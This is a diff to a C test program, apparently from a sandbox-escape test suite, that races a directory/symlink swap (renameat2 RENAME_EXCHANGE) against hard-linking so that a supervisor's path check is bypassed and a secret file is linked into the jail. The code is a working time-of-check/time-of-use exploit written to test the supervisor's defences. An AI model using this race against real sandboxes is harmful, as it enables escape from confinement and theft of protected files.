@@ -2,12 +2,13 @@
  * against a path call other than open: link().
  *
  * Attack: "e0205-d" is a real directory holding a decoy named like the
- * secret, "e0205-s" a symbolic link to the secret's directory; a thread
- * swaps the two names (renameat2 RENAME_EXCHANGE) while another hard-links
- * "e0205-d/NAME" to "e0205-got" in the cwd and reads the link.  The
- * supervisor checks the path while e0205-d is the directory; the kernel
- * may walk it when e0205-d is the symlink, and link the secret itself
- * into the jail's tree (same file system).
+ * secret, "e0205-s" a symbolic link to the secret's directory; two
+ * threads swap the two names (renameat2 RENAME_EXCHANGE) while another
+ * hard-links "e0205-d/NAME" to new names "e0205-got.N" in the cwd, then
+ * reads them.  The supervisor checks the path while e0205-d is the
+ * directory; the kernel may walk it when e0205-d is the symlink, and link
+ * the secret itself into the jail's tree (same file system).  The decoy's
+ * link count shows when a link went elsewhere.
  * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
  * components); doc/races.md ("Still open: the same component swap for the
  * other path calls").
@@ -23,6 +24,8 @@
 #include <unistd.h>
 
 #include "escape.h"
+
+#define SWAPPERS 2
 
 static volatile int stop;
 
@@ -43,7 +46,6 @@ int main(int argc, char **argv)
 	snprintf(decoy, sizeof decoy, "e0205-d/%s", basename(base));
 	mkdir("e0205-d", 0755);
 	unlink("e0205-s");
-	unlink("e0205-got");
 	if (symlink(dirname(dir), "e0205-s") < 0)
 		esc_die("symlink");
 	FILE *f = fopen(decoy, "w");
@@ -51,29 +53,45 @@ int main(int argc, char **argv)
 		esc_die(decoy);
 	fputs("decoy\n", f);
 	fclose(f);
-	pthread_t t;
-	if (pthread_create(&t, NULL, swapper, NULL) != 0)
-		esc_die("pthread_create");
+	/* The decoy's link count tells, with no checked call, whether every
+	 * link made was a link to it. */
+	int dfd = open(decoy, O_RDONLY | O_CLOEXEC);
+	if (dfd < 0)
+		esc_die(decoy);
+	pthread_t t[SWAPPERS];
+	for (int i = 0; i < SWAPPERS; i++)
+		if (pthread_create(&t[i], NULL, swapper, NULL) != 0)
+			esc_die("pthread_create");
 	struct esc_race r;
-	long linked = 0, refused = 0;
-	bool got = false;
-	char buf[512];
+	long made = 0, refused = 0;
+	bool other = false;
+	char name[64], buf[512];
 	esc_race_init(&r);
-	while (!got && esc_race_go(&r)) {
-		if (link(decoy, "e0205-got") < 0) {
+	while (!other && esc_race_go(&r)) {
+		snprintf(name, sizeof name, "e0205-got.%ld", made);
+		if (link(decoy, name) < 0) {
 			refused++;
 			continue;
 		}
-		linked++;
-		if (esc_read_file("e0205-got", buf, sizeof buf) >= 0 && strcmp(buf, "decoy\n") != 0) {
-			buf[strcspn(buf, "\n")] = '\0';
-			printf("read through the new link: read '%s'\n", buf);
-			got = true;
-		}
-		unlink("e0205-got");
+		made++;
+		struct stat st;
+		if (made % 16 == 0 && fstat(dfd, &st) == 0 && (long)st.st_nlink - 1 < made)
+			other = true;
 	}
-	printf("link race: %ld tries, %ld linked, %ld refused\n", r.tries, linked, refused);
 	stop = 1;
-	pthread_join(t, NULL);
+	for (int i = 0; i < SWAPPERS; i++)
+		pthread_join(t[i], NULL);
+	bool shown = false;
+	for (long i = 0; i < made; i++) {
+		snprintf(name, sizeof name, "e0205-got.%ld", i);
+		if (!shown && esc_read_file(name, buf, sizeof buf) >= 0 &&
+		    strcmp(buf, "decoy\n") != 0) {
+			buf[strcspn(buf, "\n")] = '\0';
+			printf("read through a new link: read '%s'\n", buf);
+			shown = true;
+		}
+		unlink(name);
+	}
+	printf("link race: %ld tries, %ld linked, %ld refused\n", r.tries, made, refused);
 	return 0;
 }
